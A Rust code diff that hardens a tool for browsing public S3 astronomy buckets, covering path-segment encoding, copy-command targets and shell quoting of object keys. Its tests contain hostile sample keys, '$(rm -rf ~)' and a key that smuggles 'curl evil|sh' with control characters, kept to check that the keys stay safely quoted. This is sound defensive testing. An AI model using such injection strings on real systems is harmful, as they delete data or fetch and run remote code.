@@ -24,23 +24,35 @@ pub struct Access {
     pub mirror: Option<String>,
     /// The archive's short name, for the menu label.
     pub archive: Option<String>,
+    /// The bucket is the one of that name on AWS (its https URL means something).
+    pub on_aws: bool,
+}
+
+/// How the session reaches S3: the global flags.
+#[derive(Debug, Clone, Copy, Default)]
+pub struct SessionAccess<'a> {
+    pub endpoint: Option<&'a str>,
+    pub region: &'a str,
+    pub profile: Option<&'a str>,
+    /// `--no-sign-request`: nothing is signed, whatever the catalog says.
+    pub never_sign: bool,
 }
 
 impl Access {
     /// The access to a bucket, from its catalog entry if it has one.
-    pub fn for_bucket(
-        entry: Option<&CatalogEntry>,
-        endpoint: Option<&str>,
-        region: &str,
-        profile: Option<&str>,
-    ) -> Self {
-        let endpoint = entry.and_then(|e| e.endpoint.clone()).or_else(|| endpoint.map(str::to_string));
+    pub fn for_bucket(entry: Option<&CatalogEntry>, session: SessionAccess<'_>) -> Self {
+        let endpoint = entry.and_then(|e| e.endpoint.clone()).or_else(|| session.endpoint.map(str::to_string));
+        let region = entry.map(|e| e.region.as_str()).filter(|r| !r.is_empty()).unwrap_or(session.region);
+        let profile = entry.and_then(|e| e.profile.clone()).or_else(|| session.profile.map(str::to_string));
+        let anonymous = session.never_sign || (entry.is_some_and(|e| e.anonymous) && session.profile.is_none());
         Self {
-            region: entry.map_or(region, |e| e.region.as_str()).to_string(),
-            anonymous: entry.is_some_and(|e| e.anonymous) && profile.is_none(),
-            profile: entry.and_then(|e| e.profile.clone()).or_else(|| profile.map(str::to_string)),
+            region: region.to_string(),
+            anonymous,
+            profile: profile.filter(|_| !session.never_sign),
             mirror: entry.map(|e| e.mirror.clone()).filter(|m| !m.is_empty()),
             archive: entry.map(|e| e.archive.clone()),
+            // A catalog archive keeps its AWS name even when served elsewhere (the demo).
+            on_aws: endpoint.is_none() || entry.is_some_and(|e| !e.own),
             endpoint,
         }
     }
@@ -59,9 +71,17 @@ pub fn s3_uri(target: &S3Uri) -> String {
     format!("s3://{}/{}", target.bucket, target.key)
 }
 
-/// Percent-encodes a key for a URL path (spaces, `+`, `%`, unicode…).
+/// Percent-encodes a key for a URL path (spaces, `+`, `%`, unicode…); `.`
+/// and `..` segments too, which browsers and curl would otherwise resolve.
 pub fn encode_path(key: &str) -> String {
-    utf8_percent_encode(key, PATH).to_string()
+    key.split('/')
+        .map(|segment| match segment {
+            "." => "%2E".to_string(),
+            ".." => "%2E%2E".to_string(),
+            other => utf8_percent_encode(other, PATH).to_string(),
+        })
+        .collect::<Vec<_>>()
+        .join("/")
 }
 
 /// The public https URL on AWS: virtual-hosted, or path-style for bucket
@@ -106,12 +126,12 @@ pub fn formats(targets: &[S3Uri], access_of: &dyn Fn(&str) -> Access) -> Vec<Cop
         }
     };
     push("s3 URI".into(), lines(&|t, _| Some(s3_uri(t))));
-    push("https URL".into(), lines(&|t, a| Some(https_url(t, &a.region))));
+    push("https URL".into(), lines(&|t, a| a.on_aws.then(|| https_url(t, &a.region))));
     push("endpoint URL".into(), lines(&|t, a| a.endpoint.as_ref().map(|e| endpoint_url(t, e))));
     let archive = accesses[0].archive.clone().filter(|_| accesses.iter().all(|a| a.archive == accesses[0].archive));
     // The archive's URL, unless it is the https URL again (MAST documents the S3 one).
     let mirror = lines(&|t, a| a.mirror.as_ref().map(|m| mirror_url(t, m)));
-    let https = lines(&|t, a| Some(https_url(t, &a.region)));
+    let https = lines(&|t, a| a.on_aws.then(|| https_url(t, &a.region)));
     push(format!("{} URL", archive.as_deref().unwrap_or("archive")), mirror.filter(|m| Some(m) != https.as_ref()));
     push("key".into(), lines(&|t, _| Some(t.key.clone())));
     let access = &accesses[0];
@@ -240,8 +260,9 @@ fn aws_cp(target: &S3Uri, access: &Access) -> String {
     if target.is_prefix() {
         words.push("--recursive".into());
         words.push(shell_word(&s3_uri(target)));
-        let dir = target.key.trim_end_matches('/').rsplit('/').next().filter(|d| !d.is_empty());
-        words.push(shell_word(&format!("{}/", dir.unwrap_or(&target.bucket))));
+        // Into ./<last name>/ here: never `..`, never a word that reads as an option.
+        let dir = target.key.trim_end_matches('/').rsplit('/').next().filter(|d| !matches!(*d, "" | "." | ".."));
+        words.push(shell_word(&format!("./{}/", dir.unwrap_or(&target.bucket))));
     } else {
         words.push(shell_word(&s3_uri(target)));
         words.push(".".into());
@@ -249,13 +270,32 @@ fn aws_cp(target: &S3Uri, access: &Access) -> String {
     words.join(" ")
 }
 
-/// A word for a POSIX shell: bare when safe, single-quoted otherwise.
+/// A word for the shell: bare when safe, single-quoted otherwise, and
+/// ANSI-C quoted (`$'…'`, bash/zsh/ksh) when it holds control characters:
+/// pasted raw, a Ctrl-U or a carriage return inside quotes would edit or run
+/// the command line.
 pub fn shell_word(text: &str) -> String {
     let safe = |c: char| c.is_ascii_alphanumeric() || "-_./:=@%+,".contains(c);
     if !text.is_empty() && text.chars().all(safe) {
         return text.to_string();
     }
-    format!("'{}'", text.replace('\'', "'\\''"))
+    if !text.chars().any(crate::escape::is_unsafe_char) {
+        return format!("'{}'", text.replace('\'', "'\\''"));
+    }
+    let mut out = String::from("$'");
+    for c in text.chars() {
+        match c {
+            '\'' => out.push_str("\\'"),
+            '\\' => out.push_str("\\\\"),
+            c if crate::escape::is_unsafe_char(c) && (c as u32) < 0x100 => {
+                out.push_str(&format!("\\x{:02x}", c as u32))
+            }
+            c if crate::escape::is_unsafe_char(c) => out.push_str(&format!("\\u{:04x}", c as u32)),
+            c => out.push(c),
+        }
+    }
+    out.push('\'');
+    out
 }
 
 #[cfg(test)]
@@ -263,9 +303,13 @@ mod tests {
     use super::*;
     use crate::catalog::Catalog;
 
+    fn aws() -> SessionAccess<'static> {
+        SessionAccess { region: "us-east-1", ..SessionAccess::default() }
+    }
+
     fn heasarc() -> Access {
         let catalog = Catalog::builtin();
-        Access::for_bucket(catalog.find("nasa-heasarc"), None, "us-east-1", None)
+        Access::for_bucket(catalog.find("nasa-heasarc"), aws())
     }
 
     #[test]
@@ -275,6 +319,8 @@ mod tests {
         assert_eq!(encode_path("x/y_z-1.2~3"), "x/y_z-1.2~3");
         assert_eq!(encode_path("q?a=1#f&g"), "q%3Fa%3D1%23f%26g");
         assert_eq!(encode_path("\x1b[31m"), "%1B%5B31m");
+        assert_eq!(encode_path("a/../b/./c.fits"), "a/%2E%2E/b/%2E/c.fits");
+        assert_eq!(encode_path("a/.hidden/..x"), "a/.hidden/..x");
     }
 
     #[test]
@@ -318,14 +364,14 @@ mod tests {
     #[test]
     fn lambda_mirror_and_no_mirror_for_mast() {
         let catalog = Catalog::builtin();
-        let lambda = Access::for_bucket(catalog.find("nasa-lambda"), None, "us-east-1", None);
+        let lambda = Access::for_bucket(catalog.find("nasa-lambda"), aws());
         let uri = S3Uri::new("nasa-lambda", "data/map.fits");
         let menu = formats(std::slice::from_ref(&uri), &|_| lambda.clone());
         assert!(menu.iter().any(|f| f.label == "LAMBDA URL" && f.text == "https://lambda.gsfc.nasa.gov/data/map.fits"));
-        let mast = Access::for_bucket(catalog.find("stpubdata"), None, "us-east-1", None);
+        let mast = Access::for_bucket(catalog.find("stpubdata"), aws());
         let menu = formats(&[S3Uri::new("stpubdata", "hst/public/x.fits")], &|_| mast.clone());
         assert!(!menu.iter().any(|f| f.label == "MAST URL"), "MAST's documented URL is the https URL itself");
-        let irsa = Access::for_bucket(catalog.find("nasa-irsa-wise"), None, "us-east-1", None);
+        let irsa = Access::for_bucket(catalog.find("nasa-irsa-wise"), aws());
         let menu = formats(&[S3Uri::new("nasa-irsa-wise", "wise/a b.parquet")], &|_| irsa.clone());
         let url = &menu.iter().find(|f| f.label == "IRSA URL").unwrap().text;
         assert_eq!(url, "https://nasa-irsa-wise.s3.us-east-1.amazonaws.com/wise/a%20b.parquet");
@@ -351,7 +397,12 @@ mod tests {
         assert!(python.contains("Config(signature_version=UNSIGNED)"));
         assert!(python.contains("bucket, key = \"nasa-heasarc\", \"swift/data/obs/2005_01/\""));
         let cp = &menu.iter().find(|f| f.label == "aws s3 cp command").unwrap().text;
-        assert_eq!(cp, "aws s3 cp --no-sign-request --recursive s3://nasa-heasarc/swift/data/obs/2005_01/ 2005_01/");
+        assert_eq!(cp, "aws s3 cp --no-sign-request --recursive s3://nasa-heasarc/swift/data/obs/2005_01/ ./2005_01/");
+        for (prefix, dir) in [("up/../", "./nasa-heasarc/"), ("-x/", "./-x/")] {
+            let menu = formats(&[S3Uri::new("nasa-heasarc", prefix)], &|_| heasarc());
+            let cp = &menu.iter().find(|f| f.label == "aws s3 cp command").unwrap().text;
+            assert!(cp.ends_with(&format!(" {dir}")), "{cp}");
+        }
         let csv = S3Uri::new("nasa-heasarc", "x.csv");
         let menu = formats(std::slice::from_ref(&csv), &|_| heasarc());
         assert!(menu.iter().any(|f| f.text.contains("s3.get_object(Bucket=\"nasa-heasarc\", Key=\"x.csv\")")));
@@ -366,6 +417,7 @@ mod tests {
             profile: Some("work".into()),
             mirror: None,
             archive: None,
+            on_aws: false,
         };
         let menu = formats(&[S3Uri::new("mine", "a.fits")], &|_| access.clone());
         let text = |label: &str| menu.iter().find(|f| f.label == label).unwrap().text.clone();
@@ -380,11 +432,40 @@ mod tests {
     }
 
     #[test]
+    fn own_buckets_elsewhere_get_no_aws_url_and_no_sign_request_wins() {
+        let entry = crate::catalog::CatalogEntry {
+            name: "lab".into(),
+            archive: "mine".into(),
+            title: "lab".into(),
+            region: String::new(),
+            mirror: String::new(),
+            anonymous: false,
+            endpoint: Some("https://minio.example.org".into()),
+            profile: Some("lab".into()),
+            own: true,
+        };
+        let session = SessionAccess { region: "eu-west-1", ..aws() };
+        let access = Access::for_bucket(Some(&entry), session);
+        assert_eq!(access.region, "eu-west-1", "no region in the entry: the session's");
+        let menu = formats(&[S3Uri::new("lab", "x.csv")], &|_| access.clone());
+        assert!(!menu.iter().any(|f| f.label == "https URL"), "a same-named AWS bucket is someone else's");
+        assert!(menu.iter().any(|f| f.text == "https://minio.example.org/lab/x.csv"));
+        let unsigned = Access::for_bucket(None, SessionAccess { never_sign: true, profile: Some("p"), ..aws() });
+        assert!(unsigned.anonymous && unsigned.profile.is_none());
+        let cp = aws_cp(&S3Uri::new("open-data", "k"), &unsigned);
+        assert_eq!(cp, "aws s3 cp --no-sign-request s3://open-data/k .");
+    }
+
+    #[test]
     fn hostile_keys_stay_exact_in_snippets_and_commands() {
         assert_eq!(py_str("a\"b\\c\x1b[0m\u{202e}"), "\"a\\\"b\\\\c\\x1b[0m\\u202e\"");
         assert_eq!(shell_word("it's here"), "'it'\\''s here'");
         assert_eq!(shell_word("$(rm -rf ~)"), "'$(rm -rf ~)'");
         assert_eq!(shell_word("s3://b/plain-key_1.fits"), "s3://b/plain-key_1.fits");
+        // Ctrl-U and a carriage return inside quotes would edit and run the pasted line.
+        assert_eq!(shell_word("s3://b/x\x15curl evil|sh\r"), "$'s3://b/x\\x15curl evil|sh\\x0d'");
+        assert_eq!(shell_word("it's\x1b"), "$'it\\'s\\x1b'");
+        assert_eq!(shell_word("a\\b\u{202e}"), "$'a\\\\b\\u202e'");
     }
 
     #[test]
@@ -397,7 +478,9 @@ mod tests {
             let decoded = percent_encoding::percent_decode_str(&encoded).decode_utf8().unwrap();
             assert_eq!(decoded, key);
             let word = shell_word(&key);
-            assert!(word == key || (word.starts_with('\'') && word.ends_with('\'')), "{word}");
+            assert!(word == key || word.starts_with('\'') || word.starts_with("$'"), "{word}");
+            assert!(word.ends_with('\'') || word == key, "{word}");
+            assert!(!word.chars().any(crate::escape::is_unsafe_char), "a pasted word holds {word:?}");
             let literal = py_str(&key);
             assert!(!literal.chars().any(crate::escape::is_unsafe_char), "{literal:?}");
         }
